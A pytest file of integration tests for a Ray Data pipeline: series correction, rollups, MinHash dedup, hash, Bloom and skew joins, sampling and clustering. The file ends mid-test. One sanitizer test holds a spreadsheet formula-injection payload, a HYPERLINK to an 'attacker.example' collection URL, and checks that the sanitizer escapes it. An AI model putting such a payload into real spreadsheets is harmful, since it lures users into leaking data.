"""Ray Data stage/pipeline integration tests (sf0.001, shared Ray session)."""

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest

from series_correction_project_updated_ray import kernels as K


@pytest.fixture(scope="module", autouse=True)
def _ray(ray_session):
    yield


def test_sequences_schema_and_determinism(sf_dir):
    from series_correction_project_updated_ray.sources.sequences import (
        sequences_from_documents)
    a = sequences_from_documents(sf_dir).to_pandas().sort_values("doc_id")
    b = sequences_from_documents(sf_dir).to_pandas().sort_values("doc_id")
    assert list(a.columns) == ["doc_id", "tokens", "n_tok", "source"]
    assert (a["n_tok"] > 0).any()
    for x, y in zip(a["tokens"], b["tokens"]):
        np.testing.assert_array_equal(np.asarray(x), np.asarray(y))


def test_corrected_sequences_token_invariant(sf_dir):
    from series_correction_project_updated_ray.pipelines.flagship import (
        flagship_corrected)
    from series_correction_project_updated_ray.sources.sequences import (
        sequences_from_documents)
    corr = flagship_corrected(sf_dir, buckets_per_source=8).to_pandas()
    orig = sequences_from_documents(sf_dir).to_pandas()
    merged = corr.merge(orig, on="doc_id", suffixes=("", "_orig"))
    assert len(merged) == len(orig)
    for tok, tok_orig, cv, nt in zip(merged["tokens"], merged["tokens_orig"],
                                     merged["corrected"], merged["n_tok"]):
        np.testing.assert_array_equal(np.asarray(tok), np.asarray(tok_orig))
        assert len(np.asarray(cv)) == nt


def test_flagship_rollup_matches_numpy_oracle(sf_dir):
    """Whole distributed pipeline vs a single-process numpy recomputation."""
    from series_correction_project_updated_ray.pipelines.flagship import (
        flagship_rollup)
    from series_correction_project_updated_ray.sources.sequences import (
        sequences_from_documents)
    from series_correction_project_updated_ray.stages.correction import (
        SERIES_STEP_SECONDS, add_series_key, tokens_to_values)

    got = flagship_rollup(sf_dir, buckets_per_source=8).to_pandas()

    seqs = sequences_from_documents(sf_dir).map_batches(
        add_series_key, batch_format="pyarrow",
        fn_kwargs={"buckets_per_source": 8}).to_pandas()
    rows = []
    for key, g in seqs.groupby("series_key"):
        g = g.sort_values("doc_id")
        flat = np.concatenate([np.asarray(t, dtype=np.int32)
                               for t in g["tokens"]])
        v = tokens_to_values(flat)
        t = np.arange(len(v), dtype=np.int64) * SERIES_STEP_SECONDS
        t, v = K.process_series(t, v)
        partial = None
        for tier, width in (("1m", 60), ("1h", 3600), ("1d", 86400)):
            partial = (K.rollup_series(t, v, width) if partial is None
                       else K.rollup_cascade(partial, width))
            for i in range(len(partial["window_start"])):
                rows.append((key, tier, int(partial["window_start"][i]),
                             partial["min"][i], partial["max"][i],
                             partial["sum"][i], int(partial["count"][i])))
    want = pd.DataFrame(rows, columns=["series_key", "tier", "window_start",
                                       "vmin", "vmax", "vsum", "vcount"])
    got_s = got.sort_values(["series_key", "tier", "window_start"]
                            ).reset_index(drop=True)
    want_s = want.sort_values(["series_key", "tier", "window_start"]
                              ).reset_index(drop=True)
    assert len(got_s) == len(want_s)
    np.testing.assert_array_equal(got_s["vcount"], want_s["vcount"])
    np.testing.assert_allclose(got_s["vmin"], want_s["vmin"])
    np.testing.assert_allclose(got_s["vmax"], want_s["vmax"])
    np.testing.assert_allclose(got_s["vsum"], want_s["vsum"], rtol=1e-12)


def test_rollup_tiers_cascade_consistency(sf_dir):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.rollup import (
        rollup_events, rollup_tiers)
    ev = rd.read_parquet(f"{sf_dir}/events.parquet",
                         columns=["event_type", "ts", "value"])
    tiers = rollup_tiers(ev)
    direct_1d = rollup_events(
        rd.read_parquet(f"{sf_dir}/events.parquet",
                        columns=["event_type", "ts", "value"]),
        width=86400).to_pandas()
    cascaded_1d = tiers["1d"].to_pandas()
    key = ["event_type", "window_start"]
    a = cascaded_1d.sort_values(key).reset_index(drop=True)
    b = direct_1d.sort_values(key).reset_index(drop=True)
    assert len(a) == len(b)
    np.testing.assert_array_equal(a["vcount"], b["vcount"])
    np.testing.assert_allclose(a["vmin"], b["vmin"])
    np.testing.assert_allclose(a["vmax"], b["vmax"])
    np.testing.assert_allclose(a["vsum"], b["vsum"], atol=2e-6)


def test_exact_dedup_with_injected_duplicates(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.dedup import (
        exact_dedup_survivors)
    df = pd.DataFrame({
        "doc_id": [1, 2, 3, 4, 5, 6],
        "text": ["aaa", "bbb", "aaa", "ccc", "bbb", "aaa"],
    })
    out = exact_dedup_survivors(rd.from_pandas(df)).to_pandas()
    assert sorted(out["doc_id"]) == [1, 2, 4]


def test_minhash_lsh_finds_near_duplicates(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.dedup import (
        minhash_lsh_dedup)
    base = ("the quick brown fox jumps over the lazy dog and then runs far "
            "away into the deep dark forest to hide from hunters") * 3
    near = base.replace("lazy", "sleepy")
    other = ("completely different content about spark and ray data engines "
             "processing large parquet tables with shuffles") * 3
    df = pd.DataFrame({"doc_id": [10, 11, 12],
                       "text": [base, near, other]})
    clusters = minhash_lsh_dedup(rd.from_pandas(df), threshold=0.7)
    assert set(clusters["doc_id"]) == {10, 11}
    assert clusters["cluster_id"].nunique() == 1
    # the scale path (log-round label propagation) labels identically
    dist = minhash_lsh_dedup(rd.from_pandas(df), threshold=0.7,
                             distributed_cc=True)
    pd.testing.assert_frame_equal(clusters.reset_index(drop=True),
                                  dist.reset_index(drop=True))


def test_dedup_cc_auto_routes_on_pair_count(ray_session, monkeypatch):
    """distributed_cc=None (the default) must pick the driver union-find
    under the pair budget and the distributed propagation past it, with
    identical labels either way."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages import dedup
    base = ("the quick brown fox jumps over the lazy dog and then runs far "
            "away into the deep dark forest to hide from hunters") * 3
    df = pd.DataFrame({
        "doc_id": [1, 2, 3, 4],
        "text": [base, base.replace("lazy", "sleepy"),
                 base.replace("quick", "rapid"), "unrelated text " * 20]})
    via_driver = dedup.minhash_lsh_dedup(rd.from_pandas(df), threshold=0.6)
    # shrink the budget to 0 so the SAME call auto-routes distributed
    monkeypatch.setattr(dedup, "_CC_DRIVER_PAIR_BUDGET", 0)
    via_dist = dedup.minhash_lsh_dedup(rd.from_pandas(df), threshold=0.6)
    assert len(via_driver) >= 2
    pd.testing.assert_frame_equal(via_driver.reset_index(drop=True),
                                  via_dist.reset_index(drop=True))


def test_knn_brute_force_matches_full_numpy(sf_dir):
    import ray.data as rd
    import pyarrow.parquet as pq
    from series_correction_project_updated_ray.stages.similarity import (
        knn_brute_force)
    tbl = pq.read_table(f"{sf_dir}/embeddings.parquet")
    M = np.stack([np.asarray(v, dtype=np.float64)
                  for v in tbl["embedding"].to_pylist()])
    ids = tbl["vec_id"].to_numpy()
    q = M[0]
    sims = (M @ q) / (np.linalg.norm(M, axis=1) * np.linalg.norm(q))
    order = np.lexsort((ids, -sims))[:5]
    want = set(ids[order].tolist())
    got = knn_brute_force(
        rd.read_parquet(f"{sf_dir}/embeddings.parquet"), q, k=5)
    assert set(got["vec_id"]) == want


def test_unpivot_roundtrip(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        unpivot_threshold)
    df = pd.DataFrame({"id": [1, 2], "a": [0.05, 1.0], "b": [2.0, -0.5]})
    out = unpivot_threshold(rd.from_pandas(df), ["id"], ["a", "b"],
                            threshold=0.1).to_pandas()
    got = set(map(tuple, out[["id", "measure", "value"]].itertuples(index=False)))
    assert got == {(2, "a", 1.0), (1, "b", 2.0), (2, "b", -0.5)}


def test_sanitizer_vectors(ray_session):
    """FIXTURES.md §F5 payloads through the Arrow sanitizer stage."""
    import ray.data as rd
    from series_correction_project_updated_ray.functions.sanitize import (
        escape_spreadsheet_formula, sanitize_batch, validate_sheet_name)
    payload = '=HYPERLINK("http://attacker.example/collect","click")'
    df = pd.DataFrame({"text": [payload, "+1", "-2", "@cmd", "＝x", "safe",
                                "'=already"]})
    out = sanitize_batch(pa.Table.from_pandas(df)).to_pandas()
    assert out["text"].tolist() == ["'" + payload, "'+1", "'-2", "'@cmd",
                                    "'＝x", "safe", "'=already"]
    # idempotent
    assert escape_spreadsheet_formula("'" + payload) == "'" + payload
    with pytest.raises(ValueError):
        sanitize_batch(pa.table({"text": pa.array(["bad\x00byte"])}))
    with pytest.raises(ValueError):
        validate_sheet_name("x" * 32)
    with pytest.raises(ValueError):
        validate_sheet_name("a/b")
    validate_sheet_name("ok name")


def test_entry_smoke(ray_session):
    import __ray_entry__ as E
    ds = E.entry()
    assert ds.count() > 0
    names = set(ds.schema().names)
    assert {"series_key", "tier", "window_start", "vmean"} <= names


def test_queries_have_oracles_subset(ray_session):
    import __ray_entry__ as E
    qs, os_ = E.queries(), E.oracle_sql()
    assert set(os_) <= set(qs)
    assert len(os_) >= 12


def test_driver_window_holds_exactly_50_oracle_backed():
    """The driver gate evaluates the FIRST 50 queries() entries: they are
    driver_window()'s pick, every slot carries an oracle, no name repeats,
    and every backed entry after them is really outside the window."""
    import __ray_entry__ as E
    names = list(E.queries())
    backed = set(E.oracle_sql())
    window = E.driver_window(E.REGISTRY, backed)
    assert names[:50] == window
    assert all(n in backed for n in window)
    assert len(window) == len(set(window)) == 50
    assert len(names) == len(set(names)) == len(E.REGISTRY)
    assert len(backed) - len([n for n in names[50:] if n in backed]) == 50


def test_driver_window_covers_every_family():
    import __ray_entry__ as E
    backed = set(E.oracle_sql())
    window = set(E.driver_window(E.REGISTRY, backed))
    families = {r.family for r in E.REGISTRY if r.name in backed}
    assert len(families) > 1
    assert {r.family for r in E.REGISTRY if r.name in window} == families


def test_driver_window_holds_every_correction_oracle():
    import __ray_entry__ as E
    backed = set(E.oracle_sql())
    correction = {r.name for r in E.REGISTRY
                  if r.family == E.CORRECTION_FAMILY and r.name in backed}
    assert len(correction) >= 5
    assert correction <= set(E.driver_window(E.REGISTRY, backed))


def test_driver_window_is_deterministic():
    """Same registry and backed names, same window: independent of the
    order the names come in and of the interpreter's string hash seed."""
    import os
    import subprocess
    import sys
    import __ray_entry__ as E
    backed = set(E.oracle_sql())
    want = E.driver_window(E.REGISTRY, backed)
    assert E.driver_window(E.REGISTRY, sorted(backed, reverse=True)) == want
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    for seed in ("1", "2"):
        out = subprocess.run(
            [sys.executable, "-c",
             "import __ray_entry__ as E; print(list(E.queries()))"],
            cwd=root, env={**os.environ, "PYTHONHASHSEED": seed},
            capture_output=True, text=True, check=True).stdout
        assert out.strip() == repr(list(E.queries()))


def test_driver_window_rule_on_synthetic_registry():
    """Correction family first, then the newest backed entry of each other
    family, then the remaining backed entries in registry order; rows-only
    entries never enter."""
    import __ray_entry__ as E
    fams = [E.CORRECTION_FAMILY, ".stages.a", ".stages.b", ".stages.c"]
    rows = [E.Query(f"q{i}", f"{fams[i % 4]}:f") for i in range(80)]
    backed = {r.name for r in rows if r.name != "q78"}
    got = E.driver_window(rows, backed)
    correction = [f"q{i}" for i in range(0, 80, 4)]
    # family b's newest row, q78, is rows-only, so q74 stands in for it
    newest = ["q74", "q77", "q79"]
    rest = [r.name for r in rows
            if r.name in backed and r.name not in correction + newest]
    assert got == (correction + newest + rest)[:50]


def test_driver_window_rejects_short_registry():
    import __ray_entry__ as E
    rows = [E.Query(f"q{i}", ".stages.a:f") for i in range(60)]
    with pytest.raises(E.DriverWindowError, match="49 oracle-backed"):
        E.driver_window(rows, {f"q{i}" for i in range(49)})
    assert issubclass(E.DriverWindowError, ValueError)
    assert len(E.driver_window(rows, {f"q{i}" for i in range(50)})) == 50


def test_connected_components_distributed_matches_driver(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.dedup import (
        connected_components, connected_components_distributed)
    rng = np.random.default_rng(12)
    # random graph over 60 nodes: chains + a few cross links
    edges = set()
    for _ in range(80):
        a, b = sorted(rng.integers(0, 60, 2).tolist())
        if a != b:
            edges.add((a, b))
    pairs_df = pd.DataFrame(sorted(edges), columns=["id_a", "id_b"])
    want = connected_components(pairs_df)
    got = connected_components_distributed(rd.from_pandas(pairs_df))
    merged = want.merge(got, on="doc_id", suffixes=("_drv", "_dist"))
    assert len(merged) == len(want)
    # identical partitions: min-member label on both sides
    np.testing.assert_array_equal(merged["cluster_id_drv"],
                                  merged["cluster_id_dist"])


def test_pricing_summary_exact_arithmetic(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        pricing_summary, revenue_summary)
    rng = np.random.default_rng(7)
    n = 1000
    df = pd.DataFrame({
        "l_returnflag": rng.choice(["A", "N", "R"], n),
        "l_linestatus": rng.choice(["F", "O"], n),
        "l_quantity": rng.integers(1, 51, n).astype(float),
        "l_extendedprice": np.round(rng.uniform(900, 105000, n), 2),
        "l_discount": np.round(rng.integers(0, 11, n) / 100.0, 2),
        "l_tax": np.round(rng.integers(0, 9, n) / 100.0, 2),
    })
    out = pricing_summary(rd.from_pandas(df)).to_pandas() \
        .sort_values(["l_returnflag", "l_linestatus"]).reset_index(drop=True)
    # exact integer reference computed driver-side
    p100 = np.rint(df["l_extendedprice"] * 100).astype(np.int64)
    d100 = np.rint(df["l_discount"] * 100).astype(np.int64)
    t100 = np.rint(df["l_tax"] * 100).astype(np.int64)
    ref = df.assign(q100=np.rint(df["l_quantity"] * 100).astype(np.int64),
                    p100=p100, d100=d100,
                    disc=p100 * (100 - d100),
                    chg=p100 * (100 - d100) * (100 + t100)) \
        .groupby(["l_returnflag", "l_linestatus"], as_index=False) \
        .agg(q100=("q100", "sum"), p100=("p100", "sum"),
             disc=("disc", "sum"), chg=("chg", "sum"),
             n=("q100", "size"))
    np.testing.assert_array_equal(out["sum_qty"], ref["q100"] / 100.0)
    np.testing.assert_array_equal(out["sum_disc_price"], ref["disc"] / 1e4)
    np.testing.assert_array_equal(out["sum_charge"], ref["chg"] / 1e6)
    np.testing.assert_array_equal(out["count_order"], ref["n"])
    np.testing.assert_array_equal(out["avg_price"],
                                  ref["p100"] / (100.0 * ref["n"]))
    # Q6-style revenue on the same frame
    rev = revenue_summary(rd.from_pandas(df))
    keep = (d100 >= 5) & (d100 <= 7) & (df["l_quantity"] < 24)
    want = (p100[keep] * d100[keep]).sum() / 1e4
    assert rev["revenue"].iloc[0] == want


def test_topk_by_matches_full_sort(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import topk_by
    rng = np.random.default_rng(3)
    df = pd.DataFrame({"a": rng.integers(0, 40, 500),
                       "b": rng.integers(0, 1000, 500)})
    got = topk_by(rd.from_pandas(df).repartition(8), ["a", "b"],
                  [True, False], 7).to_pandas()
    want = df.sort_values(["a", "b"], ascending=[False, True]).head(7) \
        .reset_index(drop=True)
    pd.testing.assert_frame_equal(got.reset_index(drop=True), want)


def test_hash_sample_deterministic_and_rate(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        hash_sample)
    df = pd.DataFrame({"k": np.arange(20000), "v": np.arange(20000) * 2})
    a = hash_sample(rd.from_pandas(df), "k", 0.25).to_pandas()
    b = hash_sample(rd.from_pandas(df).repartition(8), "k", 0.25).to_pandas()
    # identical row set regardless of partitioning; rate within 2%
    assert sorted(a["k"]) == sorted(b["k"])
    assert abs(len(a) / len(df) - 0.25) < 0.02
    # nested: a 10% sample is a subset of the 25% sample (same threshold fn)
    c = hash_sample(rd.from_pandas(df), "k", 0.10).to_pandas()
    assert set(c["k"]) <= set(a["k"])


def test_hash_split_disjoint_exhaustive_no_leakage(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        hash_split)
    n = 30000
    df = pd.DataFrame({"user": np.arange(n) % 1000, "row": np.arange(n)})
    out = hash_split(rd.from_pandas(df).repartition(8), "user",
                     {"train": 0.8, "val": 0.1, "test": 0.1}).to_pandas()
    assert len(out) == n
    frac = out["split"].value_counts(normalize=True)
    assert abs(frac["train"] - 0.8) < 0.05
    # every user maps to exactly one split (no leakage)
    assert (out.groupby("user")["split"].nunique() == 1).all()


def test_series_key_salting_spreads_hot_source(ray_session):
    """The north rule's skew story: 90% of docs in ONE source must still
    spread across buckets_per_source partitions (the key embeds a uniform
    doc hash), so no single group receives the hot source whole."""
    import pyarrow as pa
    from series_correction_project_updated_ray.stages.correction import (
        add_series_key)
    n = 20000
    rng = np.random.default_rng(31)
    src = np.where(rng.uniform(size=n) < 0.9, "hot", "cold").astype(object)
    batch = pa.table({
        "doc_id": pa.array([f"doc{i}" for i in range(n)], pa.string()),
        "source": pa.array(src, pa.string()),
    })
    keyed = add_series_key(batch, buckets_per_source=64).to_pandas()
    hot = keyed[keyed["source"] == "hot"]["series_key"].value_counts()
    assert len(hot) == 64  # hot source hits every bucket
    # near-uniform: max bucket ≤ 2× the mean (chernoff-comfortable at n/64)
    assert hot.max() <= 2 * hot.mean()


def test_kmeans_distributed_recovers_planted_clusters(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.similarity import (
        kmeans_distributed)
    rng = np.random.default_rng(41)
    # 3 well-separated direction clusters on the sphere (d=16)
    centers = rng.normal(size=(3, 16))
    centers /= np.linalg.norm(centers, axis=1, keepdims=True)
    n_per = 400
    X, labels = [], []
    for j, c in enumerate(centers):
        pts = c + 0.05 * rng.normal(size=(n_per, 16))
        X.append(pts)
        labels.extend([j] * n_per)
    X = np.vstack(X)
    order = rng.permutation(len(X))
    X, labels = X[order], np.asarray(labels)[order]
    df = pd.DataFrame({"vec_id": np.arange(len(X)),
                       "embedding": [x.tolist() for x in X]})
    C, assigns = kmeans_distributed(rd.from_pandas(df).repartition(8),
                                    n_clusters=3, iters=15)
    out = assigns.to_pandas().sort_values("vec_id").reset_index(drop=True)
    assert len(out) == len(X)
    # each found cluster maps 1:1 onto a planted cluster (purity 100% on
    # well-separated data)
    # out is sorted by vec_id and vec_id was assigned post-shuffle, so
    # labels (also post-shuffle order) align positionally
    tab = pd.crosstab(out["cluster"], labels)
    assert (tab.max(axis=1) == tab.sum(axis=1)).all()
    assert tab.astype(bool).sum(axis=0).max() == 1
    # centroids align with planted centers
    sims = np.abs(C @ centers.T)
    assert (sims.max(axis=1) > 0.99).all()


def test_hash_sample_full_rate_boundary(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        hash_sample, hash_split)
    df = pd.DataFrame({"k": np.arange(500)})
    assert len(hash_sample(rd.from_pandas(df), "k", 1.0).to_pandas()) == 500
    out = hash_split(rd.from_pandas(df), "k", {"all": 1.0}).to_pandas()
    assert (out["split"] == "all").all()


def test_pivot_preserves_null_group_key(ray_session):
    """Null index keys must survive (as SQL's NULL group), not be dropped
    by pandas' default dropna — engine-wide invariant."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        pivot_sum_exact)
    df = pd.DataFrame({"who": ["a", None, "a", None],
                       "kind": ["x", "x", "y", "y"],
                       "value": [1.25, 2.50, 4.00, 8.00]})
    out = pivot_sum_exact(rd.from_pandas(df), "who", "kind", "value",
                          ["x", "y"]).to_pandas()
    assert len(out) == 2
    null_row = out[out["who"].isna()].iloc[0]
    assert null_row["x"] == 2.50 and null_row["y"] == 8.00
    assert null_row["n_events"] == 2


def test_hash_join_semantics_battery(ray_session):
    """hash_join vs a SQL-semantics pandas reference across the cases that
    have historically broken it: null keys, empty sides, int-dtype
    preservation through chains, shared column names, left-outer padding."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.joins import hash_join

    left_t = pa.table({"k": pa.array([1, 2, 2, None, 5], pa.int64()),
                       "lv": pa.array([10, 20, 21, 30, 50], pa.int64())})
    right_t = pa.table({"k2": pa.array([2, 2, 5, None, 7], pa.int64()),
                        "rv": pa.array([200, 201, 500, 900, 700],
                                       pa.int64())})
    left, right = left_t.to_pandas(), right_t.to_pandas()

    def ref(how):
        l = left.copy()
        r = right[right["k2"].notna()]
        if how == "inner":
            l = l[l["k"].notna()]
        return l.merge(r, left_on="k", right_on="k2", how=how)

    for how in ("inner", "left"):
        got = hash_join(rd.from_arrow(left_t), rd.from_arrow(right_t),
                        "k", "k2", how=how, n_buckets=4).to_pandas()
        want = ref(how)
        assert len(got) == len(want), how
        g = got.sort_values(["lv", "rv"], na_position="last") \
            .reset_index(drop=True).astype("float64")
        w = want.sort_values(["lv", "rv"], na_position="last") \
            .reset_index(drop=True).astype("float64")
        pd.testing.assert_frame_equal(g[sorted(g.columns)],
                                      w[sorted(w.columns)])

    # int64 keys survive the join output (the chained-join regression):
    j = hash_join(rd.from_arrow(left_t.drop_null()),
                  rd.from_arrow(right_t.drop_null()),
                  "k", "k2", how="inner", n_buckets=4)
    sch = dict(zip(j.schema().names, j.schema().types))
    assert str(sch["k"]) == "int64" and str(sch["k2"]) == "int64"
    # ...and the output joins AGAIN without loss (two-hop chain)
    extra = pd.DataFrame({"k3": [2, 5], "xv": ["a", "b"]})
    j2 = hash_join(j, rd.from_pandas(extra), "k", "k3", how="inner",
                   n_buckets=4).to_pandas()
    assert len(j2) == len(ref("inner").dropna())
    # shared column names on both sides get pandas-style suffixes
    lshare = pd.DataFrame({"a": [1, 2], "c": [5, 6]})
    rshare = pd.DataFrame({"b": [1, 2], "c": [7, 8]})
    js = hash_join(rd.from_pandas(lshare), rd.from_pandas(rshare),
                   "a", "b", n_buckets=2).to_pandas()
    assert {"a", "b", "c_l", "c_r"} == set(js.columns)
    # disjoint key sets → empty result whose DATASET schema stays intact
    # (what a chained consumer sees; Ray's to_pandas drops columns for
    # zero-block results)
    je = hash_join(rd.from_pandas(pd.DataFrame({"k": [1], "lv": [1]})),
                   rd.from_pandas(pd.DataFrame({"k2": [9], "rv": [2]})),
                   "k", "k2", n_buckets=2)
    assert je.count() == 0
    assert set(je.schema().names) == {"k", "lv", "k2", "rv"}


def test_corrected_series_group_id_mapping():
    """Pins the searchsorted id→timestamp mapping of the per-series
    corrected kernel: original timestamps come out inserted=False,
    gap-filled ones inserted=True, including under duplicate input
    timestamps."""
    from series_correction_project_updated_ray.stages.events_series import (
        corrected_series_arrays)
    t = np.array([0, 10, 10, 20, 30, 40, 200, 210, 220], np.int64)
    ids = np.arange(1, len(t) + 1, dtype=np.int64)
    out = pd.DataFrame(corrected_series_arrays(
        ids, t, np.linspace(1.0, 2.0, len(t))))
    orig = set(t.tolist())
    kept = out[~out["inserted"]]
    filled = out[out["inserted"]]
    # every non-inserted output row maps back to an original timestamp
    assert set(kept["t"].tolist()) <= orig
    # every original timestamp that survived is marked non-inserted
    assert not (filled["t"].isin(list(orig))).any()
    # the 40→200 gap produced at least one inserted row strictly inside it
    assert ((filled["t"] > 40) & (filled["t"] < 200)).any()


def test_semi_join_shuffle_fallback_matches_broadcast(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.joins import semi_join
    rng = np.random.default_rng(5)
    left = pd.DataFrame({"k": rng.integers(0, 50, 200),
                         "v": rng.normal(size=200)})
    right = pd.DataFrame({"k2": rng.integers(25, 75, 300)})
    lds = rd.from_pandas(left)
    for anti in (False, True):
        bcast = semi_join(lds, rd.from_pandas(right), "k", right_key="k2",
                          anti=anti).to_pandas()
        # max_broadcast=1 forces the hash-join fallback path
        shuf = semi_join(lds, rd.from_pandas(right), "k", right_key="k2",
                         anti=anti, max_broadcast=1).to_pandas()
        b = bcast.sort_values(["k", "v"]).reset_index(drop=True)
        s = shuf.sort_values(["k", "v"]).reset_index(drop=True)
        pd.testing.assert_frame_equal(b, s[b.columns.tolist()])
        assert list(shuf.columns) == ["k", "v"]


def test_hash_join_bigint_keys_with_nulls(ray_session):
    """Null-bearing int64 key columns must hash identically to null-free
    ones: keys beyond 2^53 would lose precision through a float degrade."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.joins import hash_join
    big = (1 << 60) + 12345
    left_t = pa.table({"k": pa.array([big, None, 7, big + 2], pa.int64()),
                       "lv": pa.array([1, 2, 3, 4], pa.int64())})
    # null-free right side: its keys take the exact int hashing path
    right_t = pa.table({"k2": pa.array([big, big + 1, 7], pa.int64()),
                        "rv": pa.array([10, 11, 12], pa.int64())})
    out = hash_join(rd.from_arrow(left_t), rd.from_arrow(right_t),
                    "k", "k2", how="inner", n_buckets=8).to_pandas()
    assert sorted(out["k"].tolist()) == [7, big]
    assert sorted(out["rv"].tolist()) == [10, 12]


def test_bloom_prefiltered_join_matches_plain_inner(ray_session):
    """hash_join_bloom == hash_join(how='inner') exactly: the Bloom
    pre-filter may pass false positives (the join removes them) but can
    never drop a matching row."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.joins import (
        hash_join, hash_join_bloom, bloom_prefilter)
    rng = np.random.default_rng(21)
    left = pd.DataFrame({
        "k": rng.integers(0, 10000, 5000),
        "v": rng.normal(size=5000).round(6),
    })
    # selective right side: only ~2% of left keys can match
    right = pd.DataFrame({"k2": np.arange(0, 200, dtype=np.int64),
                          "w": np.arange(200) * 10})
    lds, rds = rd.from_pandas(left), rd.from_pandas(right)

    def canon(ds):
        df = ds.to_pandas()
        return df[sorted(df.columns)].sort_values(
            sorted(df.columns)).reset_index(drop=True)

    plain = canon(hash_join(lds, rds, "k", "k2", how="inner"))
    bloom = canon(hash_join_bloom(lds, rds, "k", "k2"))
    pd.testing.assert_frame_equal(bloom, plain, check_dtype=False)
    assert len(plain) > 0

    # the prefilter keeps every matching row and drops most of the rest
    kept = bloom_prefilter(lds, rds, "k", "k2").to_pandas()
    matching = left[left["k"].isin(right["k2"])]
    assert set(map(tuple, matching.values)) <= set(map(tuple, kept.values))
    assert len(kept) < len(left) * 0.2  # selective join actually pruned


def test_bloom_prefilter_string_keys_and_nulls(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.joins import (
        bloom_prefilter)
    left = pa.table({
        "k": pa.array(["a", "b", None, "c", "dddd", "e"]),
        "v": pa.array([1, 2, 3, 4, 5, 6]),
    })
    right = pa.table({"k": pa.array(["b", "c"]), "w": pa.array([1, 2])})
    kept = bloom_prefilter(rd.from_arrow(left), rd.from_arrow(right),
                           "k", "k").to_pandas()
    assert {"b", "c"} <= set(kept["k"])
    assert kept["k"].notna().all()  # nulls never equi-match


def test_skew_join_matches_hash_join(ray_session):
    """skew_join == hash_join(how='inner') row-for-row on data where one
    key holds ~30% of the probe side (the hot path actually engages),
    including duplicate right keys and suffix-clashing columns."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.joins import (
        hash_join, skew_join)
    rng = np.random.default_rng(33)
    n = 8000
    keys = rng.integers(0, 500, n)
    keys[: n // 3] = 7  # hot key: a third of the left side
    left = pd.DataFrame({"k": keys, "v": np.arange(n),
                         "tag": rng.choice(["a", "b"], n)})
    right = pd.DataFrame({
        "k": np.concatenate([np.arange(0, 400), [7, 7]]),  # dup hot rows
        "w": np.arange(402) * 2,
        "tag": ["r"] * 402,
    })

    def canon(ds):
        df = ds.to_pandas()
        cols = sorted(df.columns)
        return df[cols].sort_values(cols).reset_index(drop=True)

    plain = canon(hash_join(rd.from_pandas(left), rd.from_pandas(right),
                            "k", "k", how="inner"))
    skew = canon(skew_join(rd.from_pandas(left), rd.from_pandas(right),
                           "k", "k", hot_share=0.05))
    pd.testing.assert_frame_equal(skew, plain, check_dtype=False)
    # the hot key's 3 right rows × its left rows actually flowed through
    n_hot_left = int((left["k"] == 7).sum())
    assert n_hot_left >= n // 3
    assert (plain["k"] == 7).sum() == 3 * n_hot_left


def test_skew_join_no_hot_keys_falls_back(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.joins import (
        hash_join, skew_join)
    left = pd.DataFrame({"k": np.arange(1000), "v": np.arange(1000)})
    right = pd.DataFrame({"k": np.arange(0, 1000, 7), "w": np.arange(143)})

    def canon(ds):
        df = ds.to_pandas()
        cols = sorted(df.columns)
        return df[cols].sort_values(cols).reset_index(drop=True)

    pd.testing.assert_frame_equal(
        canon(skew_join(rd.from_pandas(left), rd.from_pandas(right),
                        "k", "k")),
        canon(hash_join(rd.from_pandas(left), rd.from_pandas(right),
                        "k", "k", how="inner")),
        check_dtype=False)


def test_partitioned_median_quantiles_match_numpy_per_group():
    """The vectorized sorted-run kernels equal per-group np.median /
    np.quantile(linear) exactly, including NaN propagation."""
    from series_correction_project_updated_ray.stages.rollup import (
        GroupedMedian, GroupedQuantiles)
    rng = np.random.default_rng(17)
    n = 3000
    g = pd.DataFrame({
        "event_type": rng.choice(list("abcdefgh"), n),
        "window_start": rng.choice([0, 3600, 7200], n).astype(np.int64),
        "value": rng.normal(size=n).round(4),
    })
    g.loc[g.index[:5], "value"] = np.nan  # a few NaN-poisoned groups

    med = GroupedMedian()(g.copy()).set_index(["event_type",
                                               "window_start"])
    for (k, w), sub in g.groupby(["event_type", "window_start"]):
        want = np.median(sub["value"].to_numpy())
        got = med.loc[(k, w), "vmedian"]
        assert (np.isnan(want) and np.isnan(got)) or \
            abs(got - round(want, 6)) < 1e-9, (k, w)

    q = GroupedQuantiles()(g.copy()).set_index("event_type")
    for k, sub in g.groupby("event_type"):
        want = np.quantile(sub["value"].to_numpy(), [0.5, 0.9, 0.95, 0.99],
                           method="linear")
        for p, wv in zip(("p50", "p90", "p95", "p99"), want):
            gv = q.loc[k, p]
            assert (np.isnan(wv) and np.isnan(gv)) or \
                abs(gv - wv) < 5e-7, (k, p)


def test_bloom_prefilter_null_int_keys_keep_matches(ray_session):
    """A null in a probe batch must not degrade the int key column's
    hashes: matching rows survive, null-key rows are dropped."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.joins import (
        bloom_prefilter, hash_join, hash_join_bloom)
    left_t = pa.table({"k": pa.array([7, None, 9, 12], pa.int64()),
                       "v": pa.array([1, 2, 3, 4], pa.int64())})
    right_t = pa.table({"k2": pa.array([7, 9], pa.int64()),
                        "w": pa.array([70, 90], pa.int64())})
    kept = bloom_prefilter(rd.from_arrow(left_t), rd.from_arrow(right_t),
                           "k", "k2").to_pandas()
